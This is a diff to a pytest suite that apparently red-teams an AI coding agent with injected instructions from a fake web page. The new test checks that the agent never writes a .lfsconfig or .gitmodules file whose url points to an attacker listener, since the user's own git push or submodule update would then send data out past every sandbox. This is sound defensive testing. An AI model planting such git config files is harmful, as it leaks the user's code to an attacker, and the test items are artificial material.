@@ -23,6 +23,7 @@ from pathlib import Path
 
 import pytest
 
+from app.core.agent.checkpointing import Checkpointer
 from app.core.agent.events import ApprovalResponse
 from app.core.permission_mode import PermissionMode
 from app.core.permissions.rules import PermissionRule
@@ -158,7 +159,9 @@ async def _run(h: Harness, docs: FakeWebServer, mode: PermissionMode,
         script.append(Response.tools(*call) if isinstance(call, list) else Response.tools(call))
     h.server.script(*script, Response.text("done"))
     h.approver.then(*[ApprovalResponse.decline("no")] * 12)
-    await h.session(project_trusted=trusted).run(
+    # Checkpoints on, as in the app: what a call nobody approved creates is checked after it.
+    checkpointer = Checkpointer(Path(os.environ["TEBIKI_DATA_DIR"]), h.project)
+    await h.session(project_trusted=trusted, checkpointer=checkpointer).run(
         f"Summarise the install steps at {docs.url('/guide')}")
     if os.environ.get("REDTEAM_DEBUG"):
         for row in h.audit():
@@ -459,3 +462,30 @@ async def test_the_history_read_through_code_labels_the_conversation(
                trusted=True)
     assert shifted in result_of(person, "toolu_3")  # the program read it
     assert shifted not in docs_sent(docs)
+
+
+_GIT_SENDERS = {
+    ".lfsconfig": "[lfs]\n\turl = {url}\n",
+    ".gitmodules": '[submodule "vendor"]\n\tpath = vendor\n\turl = {url}\n',
+}
+
+
+@pytest.mark.parametrize("how", ["write_file", "shell"])
+@pytest.mark.parametrize("name", list(_GIT_SENDERS))
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_git_sender_for_the_persons_own_git_is_never_planted_unasked(
+        person: Harness, docs: FakeWebServer, attacker: Listener, project: Path,
+        mode: PermissionMode, name: str, how: str) -> None:
+    """git-lfs uploads to .lfsconfig's lfs.url on the person's push; `git submodule update
+    --init` fetches .gitmodules' url: a file naming the attacker, written by the model, sends
+    when the person's own git runs, outside every sandbox."""
+    person.enable("write_file", allowed_write_dirs=["."])
+    person.allow("write_file", server_id="builtin")
+    person.allow("shell_exec", server_id="builtin")
+    text = _GIT_SENDERS[name].format(url=attacker.url(f"/{MARKER}"))
+    call = tool("write_file", {"path": name, "content": text}, id="toolu_3") \
+        if how == "write_file" else \
+        shell(py(f"open({name!r},'w').write({text!r})"), "toolu_3")
+    await _run(person, docs, mode, call, trusted=True)
+    planted = project / name
+    assert not (planted.exists() and attacker.url() in planted.read_text())
